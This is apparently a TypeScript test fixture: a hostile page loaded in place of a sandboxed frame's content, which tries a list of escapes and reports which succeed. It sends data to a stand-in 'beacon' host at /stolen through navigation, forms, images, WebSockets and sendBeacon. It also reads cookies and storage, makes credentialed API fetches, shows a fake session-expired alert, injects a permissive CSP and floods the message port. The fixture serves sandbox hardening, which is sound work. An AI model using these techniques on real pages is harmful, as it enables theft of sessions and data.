// A document that takes the place of a sandbox's own and attacks the page. It is served by the real route, with its real
// headers, and shown by the real view. Each attack says what came of it.

type Attack = (own: string, beacon: string) => unknown

const nameOf = (error: unknown): string =>
  error instanceof Error || error instanceof DOMException ? error.name : 'thrown'

const attacks: Record<string, Attack> = {
  'S01 cookie': () => document.cookie,
  'S01 localStorage': () => localStorage.length,
  'S01 indexedDB': () =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open('x')
      request.onsuccess = () => resolve('opened')
      request.onerror = () => reject(request.error)
    }),
  'S02 parent.document': () => parent.document.title,
  'S02 frameElement': () => window.frameElement,
  'S03 top.location': (_own, beacon) => {
    top!.location.href = `${beacon}/stolen`
    return 'set'
  },
  'S04 window.open': (_own, beacon) => window.open(`${beacon}/stolen`),
  'S04 alert': () => alert('Your session has expired'),
  'S04 confirm': () => confirm('Allow?'),
  'S05 form': (_own, beacon) => {
    const form = document.createElement('form')
    form.action = `${beacon}/stolen`
    form.method = 'post'
    document.body.append(form)
    form.submit()
    return 'submitted'
  },
  'S05 download': () => {
    const link = document.createElement('a')
    link.download = 'virus.txt'
    link.href = 'data:text/plain,x'
    document.body.append(link)
    link.click()
    return 'clicked'
  },
  'S06 service worker': () => navigator.serviceWorker.register('x.js'),
  'S07 fetch': own => fetch(`${own}/api/agents?stolen`, { credentials: 'include' }).then(answer => answer.status),
  'S07 xhr': own =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.open('GET', `${own}/api/agents?stolen`)
      request.withCredentials = true
      request.onload = () => resolve(request.status)
      request.onerror = () => reject(new TypeError('xhr'))
      request.send()
    }),
  'S08 no-cors post': own =>
    fetch(`${own}/api/sessions?stolen`, { method: 'POST', mode: 'no-cors', body: '{}' }).then(() => 'sent'),
  'S08 image': (_own, beacon) =>
    new Promise((resolve, reject) => {
      const image = new Image()
      image.onload = () => resolve('loaded')
      image.onerror = () => reject(new TypeError('image'))
      image.src = `${beacon}/stolen`
    }),
  'S08 prefetch': (_own, beacon) =>
    new Promise((resolve, reject) => {
      const link = document.createElement('link')
      link.rel = 'prefetch'
      link.href = `${beacon}/stolen`
      link.onload = () => resolve('loaded')
      link.onerror = () => reject(new TypeError('prefetch'))
      document.head.append(link)
      setTimeout(() => reject(new TypeError('nothing')), 500)
    }),
  'S08 socket': (_own, beacon) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${beacon.replace('http', 'ws')}/stolen`)
      socket.onopen = () => resolve('opened')
      socket.onerror = () => reject(new TypeError('socket'))
    }),
  'S08 beacon': (_own, beacon) => {
    navigator.sendBeacon(`${beacon}/stolen`, 'x')
    return 'asked'
  },
  'S08 events': own =>
    new Promise((resolve, reject) => {
      const source = new EventSource(`${own}/api/stream?stolen`)
      source.onopen = () => resolve('opened')
      source.onerror = () => {
        source.close()
        reject(new TypeError('events'))
      }
    }),
  'S08 script': own =>
    new Promise((resolve, reject) => {
      const script = document.createElement('script')
      script.src = `${own}/theme.js`
      script.onload = () => resolve('loaded')
      script.onerror = () => reject(new TypeError('script'))
      document.head.append(script)
    }),
  'S10 nest': own =>
    new Promise(resolve => {
      const frame = document.createElement('iframe')
      frame.src = `${own}/`
      frame.onload = () => resolve('loaded')
      document.body.append(frame)
      setTimeout(() => resolve('nothing'), 700)
    }),
  'S11 meta': own => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'Content-Security-Policy'
    meta.content = "default-src * 'unsafe-eval' 'unsafe-inline'; connect-src *"
    document.head.append(meta)
    return fetch(`${own}/api/agents?stolen`).then(answer => answer.status)
  },
  // biome-ignore lint/security/noGlobalEval: it is what is attacked with.
  'S12 eval': () => eval('1 + 1'),
  'S12 Function': () => new Function('return 1')(),
  'S12 data import': () => import(/* @vite-ignore */ `data:text/javascript,export default 1${''}`),
  'S12 inline script': () => {
    const script = document.createElement('script')
    script.textContent = 'window.ran = true'
    document.head.append(script)
    return (window as { ran?: boolean }).ran ?? 'did not run'
  },
  'S12 inline style': () => {
    document.body.setAttribute('style', 'color: rgb(1, 2, 3)')
    return getComputedStyle(document.body).color
  },
}

async function attackAll(own: string, beacon: string): Promise<Record<string, string>> {
  const results: Record<string, string> = {}
  for (const [name, attack] of Object.entries(attacks)) {
    try {
      results[name] = String(await attack(own, beacon))
    } catch (error) {
      results[name] = nameOf(error)
    }
  }
  return results
}

window.addEventListener('message', ({ ports: [port] }) => {
  if (!port) return
  ;(window as { port?: MessagePort }).port = port
  port.onmessage = async ({ data }) => {
    const [what = '', own = '', beacon = ''] = (data.source as string).split(' ')
    const drawn = { type: 'drawn', order: data.order, kind: 'attack', title: '', description: '', labels: [] }
    if (what === 'attack') {
      const results = await attackAll(own, beacon)
      const report = document.createElement('pre')
      report.id = 'report'
      report.textContent = JSON.stringify(results)
      document.body.append(report)
    } else if (what === 'navigate') {
      port.postMessage(drawn)
      setTimeout(() => {
        location.href = `${beacon}/stolen?cookie`
      }, 300)
    } else if (what === 'reload') {
      port.postMessage(drawn)
      setTimeout(() => location.reload(), 300)
    } else if (what === 'focus') {
      const field = document.createElement('input')
      document.body.append(field)
      // `own` says how often it tries to take the focus of the page.
      for (let left = Number(own); left > 0; left--) {
        setTimeout(() => {
          window.focus()
          field.focus()
          field.dataset.tried = ''
        }, left * 500)
      }
    } else if (what === 'flood') {
      for (let count = 0; count < 50_000; count++) port.postMessage({ type: 'size', height: count % 500 })
    } else if (what === 'grow') {
      for (const height of [1e9, Number.NaN, 'x', -1, 1e9]) port.postMessage({ type: 'size', height })
    }
    if (what !== 'hang') port.postMessage(drawn)
  }
})
